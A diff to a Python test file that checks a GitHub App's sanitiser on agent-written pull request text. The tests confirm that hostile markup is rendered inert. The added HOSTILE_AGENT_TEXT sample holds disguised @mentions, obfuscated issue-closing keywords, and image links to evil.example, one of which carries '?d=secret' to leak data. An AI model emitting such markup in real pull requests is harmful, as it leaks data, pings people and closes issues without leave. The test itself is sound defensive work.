@@ -8,6 +8,7 @@ import pytest
 
 from runner import pull_request
 from runner.text import GITHUB_BODY_LIMIT, neutralise
+from tests.github_rendering import findings, render
 
 TASK_ID = "0123456789abcdef0123456789abcdef"
 Z = "\u200b"  # zero-width space, as neutralise inserts it
@@ -174,3 +175,43 @@ def test_commit_title_is_one_inert_line(title_line, first_line):
 
 def test_branch_name():
     assert pull_request.branch_name(7, TASK_ID) == "async-code/7-01234567"
+
+
+HOSTILE_AGENT_TEXT = (
+    "Add flag\n\n"
+    "cc _@octocat_ &#64;hubot, **Fixes** #1, fixes <b></b>#2, fix&#101;s o/r#3\n"
+    "![chart](https://evil.example/leak.png?d=secret) <img src=https://evil.example/a.png>\n"
+    '<picture><source srcset="https://evil.example/a.png"></picture>\n'
+    "[docs](https://evil.example \"t\") <https://evil.example> www.evil.example\n"
+    "[ref]: https://evil.example/b.png\n![r][ref]"
+)
+
+
+def test_the_hostile_agent_text_would_act_as_written():
+    kinds = " ".join(findings(render(HOSTILE_AGENT_TEXT)))
+    assert all(kind in kinds for kind in ("mention", "closing reference", "<img>", "leaves github.com"))
+
+
+def test_a_pull_request_body_renders_inert_except_for_its_own_issue_link():
+    body = pr_body(answer=HOSTILE_AGENT_TEXT, instruction="add it, thanks @carol",
+                   files=[("@octocat closes #9.md", 1, 0), ("![x](https://evil.example/a.png)", 2, 1)])
+    # The App's own lines are meant to act: the link to issue 7 and the requester.
+    own = "Fixes #7\n\nRequested by @alice in #7:"
+    assert body.startswith(own)
+    assert findings(render(body[len(own):])) == []
+
+
+def test_a_pull_request_title_renders_inert():
+    title = pull_request.title(HOSTILE_AGENT_TEXT.replace("Add flag", "Fixes #1 for _@octocat_ ![x](https://evil.example/a.png)"), "x")
+    assert findings(render(title)) == []
+
+
+def test_a_commit_message_is_inert_rendered_and_as_written():
+    message = pull_request.commit_message("Fixes #1 for _@octocat_ https://evil.example &#64;hubot",
+                                          number=7, task_id="t1", requested_by="alice",
+                                          requested_by_id=None)
+    first_line = message.split("\n", 1)[0]
+    assert findings(render(first_line)) == []
+    # A commit message is shown as plain text: no "@" directly before a login there either.
+    assert not re.search(r"(?<![A-Za-z0-9_])@[A-Za-z0-9]", first_line)
+    assert not re.search(r"(?i)fixes #1", first_line)
